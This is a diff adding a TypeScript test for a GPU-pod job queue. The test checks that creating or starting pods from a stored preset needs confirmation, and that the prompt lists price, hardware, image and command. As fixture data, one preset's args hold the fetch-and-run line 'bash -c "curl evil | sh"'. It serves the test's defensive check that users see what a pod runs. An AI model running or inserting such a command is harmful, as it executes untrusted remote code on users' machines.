@@ -3,15 +3,18 @@ import { ok } from '../../../src/core/base/result'
 import type { Question } from '../../../src/core/confirmation/question-queue'
 import { podKeyOf } from '../../../src/core/pods/pod'
 import type { JobSpec } from '../../../src/core/queue/jobs/job'
+import type { StoredPreset } from '../../../src/core/queue-pod-sources'
 import { createQueueHandlers } from '../../../src/main/queue/queue-requests'
 import { type JobDraft, NONE } from '../../../src/shared/queue-requests'
 import { createFakePodHost } from '../../harness/job-host'
 import { jobSpec } from '../../harness/job-spec'
+import { podForm } from '../../harness/pod-forms'
 import { ACCOUNT, createQueueFixture } from '../../harness/queue'
 
 function open(answer: 'yes' | 'no' = 'yes', clipboard = 'SEED=1\nexport HF_TOKEN=hf_secret') {
   const asked: Question[] = []
   const state = { answer }
+  const presets = new Map<string, StoredPreset>()
   const fixture = createQueueFixture(createFakePodHost())
   let ids = 0
   const handlers = createQueueHandlers({
@@ -25,8 +28,9 @@ function open(answer: 'yes' | 'no' = 'yes', clipboard = 'SEED=1\nexport HF_TOKEN
     chooseFiles: async () => ['/home/me/train.py'],
     chooseFolder: async () => '/home/me/out',
     newId: () => `kept-${(ids += 1)}`,
+    findPreset: (name) => presets.get(name) ?? null,
   })
-  return { fixture, handlers, asked, state }
+  return { fixture, handlers, asked, state, presets }
 }
 
 function draft(over: Partial<JobSpec> = {}, given: Partial<JobDraft> = {}): JobDraft {
@@ -109,6 +113,43 @@ describe('a window', () => {
     expect(await handlers.setSchedule({ ...rules, accountIds: [], isPaused: true })).toEqual(ok(true))
     expect(await handlers.setSchedule({ ...rules, accountIds: [] })).toEqual(ok(true))
     expect(asked).toHaveLength(2)
+  })
+
+  test('lets jobs start a pod or create one only at a price, and from a preset, that were confirmed', async () => {
+    const { fixture, handlers, asked, state, presets } = open('no')
+    const podKey = podKeyOf(ACCOUNT, 'pod-1')
+    const none = { podKeys: [podKey], accountIds: [ACCOUNT], isPaused: false }
+    fixture.queue.requests.setSchedule(none)
+    const digest = 'b'.repeat(64)
+    const rule = { accountId: ACCOUNT, presetName: 'h100', digest, maxPerHourUsd: 3 }
+    const rules = { ...none, starts: [{ podKey, maxPerHourUsd: 2 }], creates: [rule] }
+    expect(await handlers.setSchedule(rules)).toMatchObject({
+      error: { message: 'There is no preset h100.' },
+    })
+    const form = podForm({ image: 'example/image', args: 'bash -c "curl evil | sh"' })
+    presets.set('h100', { form, neededVariables: [], digest: 'c'.repeat(64) })
+    expect(await handlers.setSchedule(rules)).toEqual(ok(false))
+    expect(fixture.queue.view().rules).toEqual(none)
+    expect(asked[0]?.text.lines.map(({ text }) => text).slice(0, 5)).toEqual([
+      'name-pod-1 is started for a job that fits, at up to $2.00/hr.',
+      'A pod of the preset h100 is created for a job that fits, one at a time, at up to $3.00/hr.',
+      'It has 1 × NVIDIA H100 SXM.',
+      'Its image is example/image.',
+      'It runs bash -c "curl evil | sh"',
+    ])
+    state.answer = 'yes'
+    expect(await handlers.setSchedule(rules)).toEqual(ok(true))
+    const set = fixture.queue.view().rules
+    expect(set.creates).toEqual([{ ...rule, digest: 'c'.repeat(64) }])
+    // Less is allowed at once, and so is what was allowed before.
+    expect(await handlers.setSchedule({ ...set, starts: [{ podKey, maxPerHourUsd: 1 }] })).toEqual(ok(true))
+    expect(asked).toHaveLength(2)
+    // A higher price and another preset are asked about, whatever the page calls it.
+    state.answer = 'no'
+    expect(await handlers.setSchedule({ ...set, starts: [{ podKey, maxPerHourUsd: 4 }] })).toEqual(ok(false))
+    const other = { ...set, creates: [{ ...rule, digest: 'd'.repeat(64) }] }
+    expect(await handlers.setSchedule(other)).toEqual(ok(false))
+    expect(asked).toHaveLength(4)
   })
 
   test('takes a removal back within a minute, with the values of its variables', async () => {
